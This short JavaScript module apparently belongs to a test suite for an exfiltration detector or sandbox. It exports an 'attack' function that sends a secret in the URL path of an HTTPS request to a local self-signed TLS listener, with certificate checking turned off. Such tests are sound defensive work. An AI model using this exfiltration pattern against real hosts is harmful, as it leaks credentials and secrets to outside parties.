// https.get with the secret in the path (TLS listener, self-signed).
import https from 'node:https';
export const meta = { kind: 'network', evidence: 'tls' };
export default function attack(ctx) {
  return new Promise((resolve, reject) => {
    const req = https.get({ host: '127.0.0.1', port: ctx.tlsPort, path: '/' + ctx.secret, rejectUnauthorized: false });
    req.on('error', reject);
    req.on('finish', () => setTimeout(() => { req.destroy(); resolve('sent'); }, 200));
  });
}
